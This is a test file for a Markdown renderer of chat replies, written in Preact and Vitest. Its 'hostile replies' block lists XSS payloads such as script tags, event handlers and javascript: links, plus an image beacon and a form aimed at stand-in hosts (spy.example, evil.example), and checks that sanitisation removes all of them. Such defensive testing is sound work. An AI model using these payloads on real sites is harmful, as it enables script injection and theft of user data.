import { cleanup, render } from '@testing-library/preact';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { Markdown } from './markdown.tsx';
import { createMarkdownParser, warmUp } from './parse.ts';
import type { MarkdownContext } from './markdown.tsx';

afterEach(cleanup);

const context: MarkdownContext = {
  labels: { code: 'Code', table: 'Table' },
  headingLevel: 2,
  CopyButton: () => <button type="button">Copy</button>,
};

function citing(count: number, open: (index: number) => void = () => {}): Partial<MarkdownContext> {
  return { citations: { count, open, isPending: false, label: (number) => `Source ${number}` } };
}

function draw(source: string, given: Partial<MarkdownContext> = {}, isStreaming = false) {
  return render(<Markdown source={source} isStreaming={isStreaming} context={{ ...context, ...given }} />).container;
}

describe('hostile replies', () => {
  const hostile = [
    '<script>window.hacked=1</script>',
    '<img src=x onerror="window.hacked=1">',
    'text <svg/onload=window.hacked=1> text',
    '<iframe srcdoc="<script>1</script>"></iframe>',
    '[link](javascript:alert(1))',
    '[link](  JaVaScRiPt:alert(1))',
    '[link](&#106;avascript:alert(1))',
    '[link](data:text/html,<script>1</script>)',
    '[link](vbscript:x) <a href="javascript:1">x</a>',
    '![x](https://spy.example/?q=secret)',
    '<style>*{display:none}</style>',
    '<form action=https://evil.example><input name=q></form>',
    '[a]: javascript:alert(1)\n\n[a]',
    '| <img src=x onerror=1> |\n| --- |\n| <b onclick=1>x</b> |',
  ];
  test.each(hostile)('%s creates neither an element nor an address', (source) => {
    const container = draw(source);
    expect(
      container.querySelector('script,img,svg[onload],iframe,style,form,input,object,embed,base,meta,b'),
    ).toBeNull();
    for (const element of container.querySelectorAll('*')) {
      for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^src|^style$/);
    }
    for (const link of container.querySelectorAll('a')) {
      expect(link.protocol).toMatch(/^https?:$/);
      expect(link.rel).toContain('noopener');
      expect(link.target).toBe('_blank');
    }
  });

  test('control characters that reverse text are dropped', () => {
    expect(draw('invoice\u202Efdp.exe `a\u2066b`').textContent).toBe('invoicefdp.exe ab');
  });

  test('a very long text remains plain text, whole and in chunks', () => {
    const text = 'lorem ipsum '.repeat(90_000);
    const container = draw(text);
    expect(container.querySelectorAll('*').length).toBeLessThan(200);
    expect(container.textContent).toBe(text);
  });

  test('45,000 cells take time proportional to their text', () => {
    const cells = (text: string) => `${`|${text}`.repeat(300)}|\n`;
    const table = cells('a') + cells('-') + cells('b').repeat(150);
    // Took half a minute when each cell was taken from the front of one queue.
    expect(createMarkdownParser()(table, true)).toHaveLength(1);
  });

  test.each([
    ['a table of thousands of rows', `| a |\n| --- |\n${'| b |\n'.repeat(9_000)}`],
    ['a table of thousands of columns', `${'|a'.repeat(9_000)}|\n${'|-'.repeat(9_000)}|\n${'|b'.repeat(9_000)}|`],
    ['a list of thousands of items', '- a\n'.repeat(9_000)],
    ['thousands of paragraphs', 'a\n\n'.repeat(9_000)],
    ['quotations in quotations', '> '.repeat(9_000)],
    ['quotations without an end', '>'.repeat(9_000)],
    ['lists in lists', '- '.repeat(9_000)],
    ['numbers in numbers', '1. '.repeat(9_000)],
    ['a staircase of lists', Array.from({ length: 120 }, (_, step) => `${' '.repeat(step * 2)}- a`).join('\n')],
    ['nothing but brackets', '['.repeat(50_000)],
    ['marks that match nothing', 'a**b'.repeat(20_000)],
    ['emphasis in emphasis', `${'*a **b '.repeat(2_000)}${'** *'.repeat(2_000)}`],
  ])('%s become no more than a few thousand elements, even while streaming', (_, source) => {
    expect(draw(source).querySelectorAll('*').length).toBeLessThan(6_000);
    cleanup();
    expect(draw(source, {}, true).querySelectorAll('*').length).toBeLessThan(6_000);
  });
});

test('renders the elements of replies', () => {
  const container = draw(
    '# Title\n\nSome **bold**, *soft*, `code` and [link](https://x.example/a?b=1&c=2).\n\n- one\n  - two\n\n3. three\n\n> said\n\n| A | B |\n| - | -: |\n| 1 | 2<br>3 |\n\n```ts\nconst a = "<b>";\n```\n\nTom &amp; Jerry &lt;3\n\n- [x] done',
  );
  expect(container.querySelector('h3')?.textContent).toBe('Title');
  expect(container.querySelector('strong')?.textContent).toBe('bold');
  expect(container.querySelector('a')?.href).toBe('https://x.example/a?b=1&c=2');
  expect(container.querySelector('ul ul li')?.textContent).toBe('two');
  expect(container.querySelector('ol')?.start).toBe(3);
  expect(container.querySelector('td br')).not.toBeNull();
  expect(container.querySelector('pre')?.textContent).toBe('const a = "<b>";');
  expect(container.textContent).toContain('Tom & Jerry <3');
  expect(container.querySelector('.task')?.textContent).toBe('☑ done');
  // The mark is the only sign of the state, so it is read out.
  expect(container.querySelector('.task [aria-hidden]')).toBeNull();
});

test('citation marks become buttons that open the sources', () => {
  const openCitation = vi.fn<(index: number) => void>();
  const container = draw('As said [1], and again [2]. Not [7].', citing(2, openCitation));
  const marks = container.querySelectorAll('button');
  expect(marks).toHaveLength(2);
  marks[1]?.click();
  expect(openCitation).toHaveBeenCalledWith(1);
  expect(container.textContent).toContain('Not [7].');
});

test('a citation mark never starts a line: it stays with the previous word and the punctuation after it', () => {
  const container = draw('As said [1], and again[1][2].', citing(2));
  const kept = [...container.querySelectorAll('.keep')].map(({ textContent }) => textContent);
  expect(kept).toEqual(['said1,', 'again1', '2.']);
  expect(container.textContent).toBe('As said1, and again12.');
});

test('renders the same before and after the rules were run separately', async () => {
  const source = '- a [link](/to "it") and [another][1] — **bold**, `code` ~~not~~ \\* www.example.com\n\n[1]: /one\n';
  const read = () => createMarkdownParser()(source, true);
  const before = read();
  await warmUp();
  expect(read()).toEqual(before);
});

test('renders the same whether it was streamed or complete', () => {
  const source =
    '# A\n\nfirst *one*\n\n- a\n- b\n\n  c\n\n| x | y |\n| - | - |\n| 1 | 2 |\n\n```js\nlet a;\n\nlet b;\n```\n\nend [l](https://x.example)';
  const whole = draw(source).innerHTML;
  const { container, rerender } = render(<Markdown source="" isStreaming context={context} />);
  for (let length = 0; length <= source.length; length += 1) {
    rerender(<Markdown source={source.slice(0, length)} isStreaming context={context} />);
  }
  expect(container.innerHTML).toBe(whole);
  rerender(<Markdown source={source} isStreaming={false} context={context} />);
  expect(container.innerHTML).toBe(whole);
});

test('in a wrapped text, only hard line breaks are breaks, and lists, tables and code are kept', () => {
  const source =
    'The ferry\nleaves\nat ten.  \nBe early.\n\n- one\n  item\n- two\n\n| A |\n| - |\n| 1 |\n\n```\na\nb\n```';
  const wrapped = draw(source, { isWrapped: true });
  expect(wrapped.querySelectorAll('p br')).toHaveLength(1);
  expect(wrapped.querySelectorAll('li')).toHaveLength(2);
  expect(wrapped.querySelector('td')?.textContent).toBe('1');
  expect(wrapped.querySelector('pre')?.textContent).toContain('a\nb');
  expect(draw(source).querySelectorAll('p br')).toHaveLength(3);
});
